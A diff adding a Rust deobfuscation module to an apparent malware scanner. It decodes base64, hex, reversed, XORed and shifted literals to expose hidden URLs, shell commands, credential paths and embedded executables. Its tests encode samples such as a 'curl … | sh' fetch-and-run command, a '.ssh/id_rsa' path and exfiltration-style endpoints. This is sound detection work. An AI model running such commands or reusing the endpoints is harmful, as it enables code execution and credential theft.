@@ -1,0 +1,350 @@
+//! Static deobfuscation: decoding literals the way malicious code decodes them at run time.
+//!
+//! Base64 and hex strings, byte arrays, reversed strings, and single-byte XOR or shifted bytes (when
+//! the code around them XORs or does character arithmetic) are decoded here, and the result is
+//! judged by the same indicators as any literal. A certificate decodes to binary DER and a test
+//! vector to noise; a string that decodes to `https://…workers.dev` or `/bin/sh -c` is hiding
+//! something. Decoded data that starts like a native executable is an embedded executable.
+
+use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
+use base64::engine::DecodePaddingMode;
+use base64::{alphabet, Engine};
+
+use super::signal::SignalKind;
+use super::text::shell_signals;
+
+/// Shortest literal worth decoding: `aHR0cDovLw==` ("http://") is 12 characters.
+const MIN_ENCODED_LEN: usize = 12;
+
+/// Longest array or string brute-forced with every XOR key / shift.
+const MAX_BRUTE_FORCE_LEN: usize = 4096;
+
+/// Shortest blob called opaque.
+const MIN_BLOB_LEN: usize = 256;
+
+const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
+    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+    .with_decode_allow_trailing_bits(true);
+const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
+const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);
+
+/// What decoding hints the code around a literal gives.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct Hints {
+    /// The function XORs values.
+    pub xor: bool,
+    /// The function turns numbers into characters with arithmetic.
+    pub char_arithmetic: bool,
+}
+
+/// The signals hidden in a string literal: what it decodes to as base64, hex or reversed text.
+pub fn string_signals(text: &str, hints: Hints) -> Vec<SignalKind> {
+    let trimmed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+    if trimmed.len() >= MIN_ENCODED_LEN {
+        let is_hex =
+            trimmed.len().is_multiple_of(2) && trimmed.bytes().all(|b| b.is_ascii_hexdigit());
+        if is_hex {
+            if let Some(bytes) = decode_hex(&trimmed) {
+                let found = decoded_signals("hex", &bytes);
+                if !found.is_empty() {
+                    return found;
+                }
+            }
+        }
+        let is_base64 = trimmed
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='));
+        if is_base64 && !is_hex {
+            for engine in [&STANDARD, &URL_SAFE] {
+                if let Ok(bytes) = engine.decode(trimmed.trim_end_matches('=')) {
+                    let found = decoded_signals("base64", &bytes);
+                    if !found.is_empty() {
+                        return found;
+                    }
+                }
+            }
+        }
+    }
+    if text.contains("//:") {
+        let reversed: String = text.chars().rev().collect();
+        let found = decoded_signals("reversed text", reversed.as_bytes());
+        if !found.is_empty() {
+            return found;
+        }
+    }
+    if (hints.xor || hints.char_arithmetic) && text.len() >= 8 && text.len() <= MAX_BRUTE_FORCE_LEN
+    {
+        return brute_force(text.as_bytes(), hints);
+    }
+    Vec::new()
+}
+
+/// The signals hidden in a literal byte array (or byte string): its bytes as text, as an
+/// executable, or XORed/shifted when the code hints at it.
+pub fn byte_signals(bytes: &[u8], hints: Hints) -> Vec<SignalKind> {
+    if bytes.len() < 6 {
+        return Vec::new();
+    }
+    let found = decoded_signals("a byte array", bytes);
+    if !found.is_empty() {
+        return found;
+    }
+    if (hints.xor || hints.char_arithmetic)
+        && bytes.len() >= 8
+        && bytes.len() <= MAX_BRUTE_FORCE_LEN
+    {
+        return brute_force(bytes, hints);
+    }
+    Vec::new()
+}
+
+fn brute_force(bytes: &[u8], hints: Hints) -> Vec<SignalKind> {
+    let mut buffer = vec![0u8; bytes.len()];
+    if hints.xor {
+        for key in 1..=255u8 {
+            for (out, b) in buffer.iter_mut().zip(bytes) {
+                *out = b ^ key;
+            }
+            let found = decoded_signals(&format!("bytes XORed with {key:#04x}"), &buffer);
+            if !found.is_empty() {
+                return found;
+            }
+        }
+    }
+    if hints.char_arithmetic {
+        for shift in (-32i16..=32).filter(|s| *s != 0) {
+            for (out, b) in buffer.iter_mut().zip(bytes) {
+                *out = (i16::from(*b) + shift).rem_euclid(256) as u8;
+            }
+            let found = decoded_signals(&format!("characters shifted by {shift}"), &buffer);
+            if !found.is_empty() {
+                return found;
+            }
+        }
+    }
+    Vec::new()
+}
+
+/// What decoded bytes reveal: an executable, or printable text with an indicator in it. Empty when
+/// they are noise or ordinary text.
+fn decoded_signals(encoding: &str, bytes: &[u8]) -> Vec<SignalKind> {
+    if let Some(format) = native_executable(bytes) {
+        return vec![
+            SignalKind::EmbeddedExecutable {
+                what: format!("{format} data in {encoding}"),
+            },
+            SignalKind::HiddenIndicator {
+                encoding: encoding.to_owned(),
+                decoded: format!("an {format} executable"),
+            },
+        ];
+    }
+    if !is_printable(bytes) || !is_wordy(bytes) {
+        return Vec::new();
+    }
+    let text = String::from_utf8_lossy(bytes);
+    let mut found: Vec<SignalKind> = shell_signals(&text)
+        .into_iter()
+        .filter(is_meaningful)
+        .collect();
+    if found.is_empty() {
+        return found;
+    }
+    let shown: String = text.chars().take(80).collect();
+    found.push(SignalKind::HiddenIndicator {
+        encoding: encoding.to_owned(),
+        decoded: shown,
+    });
+    found
+}
+
+/// Indicators worth hiding: where data goes, which secrets are read, what persists, what mines.
+/// Weaker ones (a `./path`, a `|sh` inside noise) are left out: brute-forced decodings of ordinary
+/// data produce them by chance.
+fn is_meaningful(kind: &SignalKind) -> bool {
+    matches!(
+        kind,
+        SignalKind::Destination { .. }
+            | SignalKind::SensitivePath { .. }
+            | SignalKind::Persistence { .. }
+            | SignalKind::AuthorizedKeys
+            | SignalKind::EmbeddedSshKey
+            | SignalKind::MiningPool { .. }
+            | SignalKind::Wallet { strong: true, .. }
+            | SignalKind::MinerFlag { .. }
+            | SignalKind::Network { .. }
+    )
+}
+
+/// Whether decoded bytes read like text someone wrote: printable, and mostly letters, digits and
+/// the punctuation of paths and URLs.
+fn is_wordy(bytes: &[u8]) -> bool {
+    let wordy = bytes
+        .iter()
+        .filter(|b| b.is_ascii_alphanumeric() || b" ./:-_~\\".contains(b))
+        .count();
+    wordy * 100 >= bytes.len() * 85
+}
+
+fn is_printable(bytes: &[u8]) -> bool {
+    if bytes.len() < 6 {
+        return false;
+    }
+    let printable = bytes
+        .iter()
+        .filter(|&&b| (0x20..0x7f).contains(&b) || matches!(b, b'\n' | b'\r' | b'\t'))
+        .count();
+    printable * 100 >= bytes.len() * 97
+}
+
+fn decode_hex(text: &str) -> Option<Vec<u8>> {
+    let digits = text.as_bytes();
+    let value = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
+    digits
+        .chunks(2)
+        .map(|pair| Some(value(pair[0])? << 4 | value(pair[1])?))
+        .collect()
+}
+
+/// The native executable format bytes start with: ELF executables and shared objects (not
+/// relocatable objects), PE, Mach-O.
+pub fn native_executable(bytes: &[u8]) -> Option<&'static str> {
+    if bytes.starts_with(b"\x7fELF") {
+        // e_type at offset 16, in the file's byte order: 2 executable, 3 shared object.
+        let little = bytes.get(5) != Some(&2);
+        let e_type = bytes.get(16..18).map(|b| {
+            if little {
+                u16::from_le_bytes([b[0], b[1]])
+            } else {
+                u16::from_be_bytes([b[0], b[1]])
+            }
+        });
+        return matches!(e_type, Some(2 | 3) | None).then_some("ELF");
+    }
+    if bytes.starts_with(b"MZ") {
+        let pe_offset = bytes
+            .get(0x3c..0x40)
+            .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]));
+        if bytes.len() < 0x40 || pe_offset.is_some_and(|o| (0x40..0x1_0000).contains(&o)) {
+            return Some("PE");
+        }
+        return None;
+    }
+    const MACH_O: [[u8; 4]; 4] = [
+        [0xFE, 0xED, 0xFA, 0xCE],
+        [0xFE, 0xED, 0xFA, 0xCF],
+        [0xCE, 0xFA, 0xED, 0xFE],
+        [0xCF, 0xFA, 0xED, 0xFE],
+    ];
+    if MACH_O.iter().any(|magic| bytes.starts_with(magic)) {
+        return Some("Mach-O");
+    }
+    None
+}
+
+/// Shannon entropy in bits per byte.
+pub fn entropy(bytes: &[u8]) -> f64 {
+    if bytes.is_empty() {
+        return 0.0;
+    }
+    let mut counts = [0usize; 256];
+    for &b in bytes {
+        counts[b as usize] += 1;
+    }
+    let len = bytes.len() as f64;
+    counts
+        .iter()
+        .filter(|&&c| c > 0)
+        .map(|&c| {
+            let p = c as f64 / len;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+/// Whether a literal is a long run of encoded, high-entropy data (base64 or hex).
+pub fn is_opaque_blob(text: &str) -> bool {
+    if text.len() < MIN_BLOB_LEN {
+        return false;
+    }
+    let compact: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
+    if compact.len() < MIN_BLOB_LEN {
+        return false;
+    }
+    let hex = compact.iter().all(u8::is_ascii_hexdigit);
+    let base64 = compact
+        .iter()
+        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='));
+    let bits = entropy(&compact);
+    (hex && bits > 3.7) || (base64 && !hex && bits > 5.2)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hidden(signals: &[SignalKind]) -> bool {
+        signals
+            .iter()
+            .any(|k| matches!(k, SignalKind::HiddenIndicator { .. }))
+    }
+
+    #[test]
+    fn base64_and_hex_urls_are_revealed() {
+        let encoded = STANDARD.encode("https://grab.workers.dev/collect");
+        assert!(hidden(&string_signals(&encoded, Hints::default())));
+        let hex: String = "curl http://1.2.3.4/x | sh"
+            .bytes()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        assert!(hidden(&string_signals(&hex, Hints::default())));
+        // Ordinary data decodes to nothing meaningful.
+        assert!(string_signals("SGVsbG8sIHdvcmxkIQ==", Hints::default()).is_empty());
+        assert!(string_signals("0123456789abcdef0123", Hints::default()).is_empty());
+        assert!(string_signals("abcdefghijklmnop", Hints::default()).is_empty());
+    }
+
+    #[test]
+    fn byte_arrays_xor_and_reversal() {
+        let plain = b"/home/u/.ssh/id_rsa";
+        assert!(hidden(&byte_signals(plain, Hints::default())));
+        let xored: Vec<u8> = b"https://x.vercel.app/k".iter().map(|b| b ^ 0x5a).collect();
+        assert!(byte_signals(&xored, Hints::default()).is_empty());
+        assert!(hidden(&byte_signals(
+            &xored,
+            Hints {
+                xor: true,
+                ..Hints::default()
+            }
+        )));
+        let shifted: Vec<u8> = b"api.telegram.org/bot".iter().map(|b| b + 1).collect();
+        assert!(hidden(&byte_signals(
+            &shifted,
+            Hints {
+                char_arithmetic: true,
+                ..Hints::default()
+            }
+        )));
+        let reversed: String = "https://paste.ee/r/abc".chars().rev().collect();
+        assert!(hidden(&string_signals(&reversed, Hints::default())));
+    }
+
+    #[test]
+    fn executables_and_blobs() {
+        let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
+        elf.extend([0u8; 64]);
+        assert_eq!(native_executable(&elf), Some("ELF"));
+        let mut object = elf.clone();
+        object[16] = 1;
+        assert_eq!(native_executable(&object), None);
+        let encoded = STANDARD.encode(&elf);
+        assert!(string_signals(&encoded, Hints::default())
+            .iter()
+            .any(|k| matches!(k, SignalKind::EmbeddedExecutable { .. })));
+        let noise: Vec<u8> = (0..600u32)
+            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
+            .collect();
+        assert!(is_opaque_blob(&STANDARD.encode(&noise)));
+        assert!(!is_opaque_blob(&"ab".repeat(300)));
+    }
+}
